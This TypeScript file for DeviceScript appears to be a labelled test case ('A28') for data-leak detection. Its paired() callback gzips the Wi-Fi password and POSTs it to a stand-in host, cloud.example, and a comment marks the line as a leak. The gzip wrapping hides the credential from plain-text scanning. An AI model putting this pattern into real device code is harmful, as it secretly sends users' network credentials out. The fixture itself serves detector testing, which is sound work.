// A28: in a gzip file, of which the content is stored as it is.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

/** RFC 1952 and RFC 1951, 3.2.4: one stored block. */
function gzipped(text: string) {
  const content = Buffer.from(text);
  const file = Buffer.alloc(10 + 5 + content.length + 8);
  file.set(hex`1f8b08000000000000ff01`);
  file.setAt(11, "u16", content.length);
  file.setAt(13, "u16", ~content.length & 0xffff);
  file.set(content, 15);
  const checksum = crc32(content);
  file.setAt(15 + content.length, "u16", checksum & 0xffff);
  file.setAt(17 + content.length, "u16", (checksum >> 16) & 0xffff);
  file.setAt(19 + content.length, "u32", content.length);
  return file;
}

function crc32(bytes: Buffer) {
  let crc = -1;
  for (let i = 0; i < bytes.length; i++) {
    crc = crc ^ bytes[i];
    for (let bit = 0; bit < 8; bit++) crc = ((crc >> 1) & 0x7fffffff) ^ (crc & 1 ? 0xedb88320 | 0 : 0);
  }
  return ~crc;
}

paired(async (_ssid, psk) => {
  const body = gzipped(psk);
  const response = await fetch("https://cloud.example/a28", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
